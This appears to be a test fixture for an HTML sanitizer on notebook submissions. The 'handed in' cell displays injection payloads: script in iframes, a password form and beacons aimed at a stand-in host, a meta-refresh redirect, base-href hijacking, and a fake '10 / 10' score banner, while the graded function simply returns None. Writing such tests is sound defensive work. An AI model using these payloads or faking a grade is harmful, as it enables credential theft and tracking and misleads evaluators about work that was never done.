"""TRIES: frames, objects, forms, refreshes and bases: other documents, and ways to leave the page.

MUST: leave none of them.

ROWS: 21
"""

# --- handed in ---
from IPython.display import HTML, IFrame, YouTubeVideo, display

display(IFrame("http://192.0.2.1/", 100, 100), YouTubeVideo("x"))
for text in (
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x>",
    "<form action='http://192.0.2.1/'><input name=password><button formaction=//192.0.2.1>go",
    "<meta http-equiv=refresh content='0;url=http://192.0.2.1/'><base href='//192.0.2.1/'>",
    "<a href='http://192.0.2.1/'>your feedback</a><a ping=//192.0.2.1 href=#x>x</a>",
    "<img src='http://192.0.2.1/pixel.png'><img srcset='//192.0.2.1/x 1x'>",
    "<video src=//192.0.2.1 poster=//192.0.2.1><audio src=//192.0.2.1>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='><img src='data:image/svg+xml,<svg/>'>",
    "</div></div></section></body></html><h1>10 / 10</h1><plaintext>",
    "<template><script>alert(1)</script></template><xmp><script></xmp>",
):
    display(HTML(text))


def softmax_jacobian(weights):
    return None
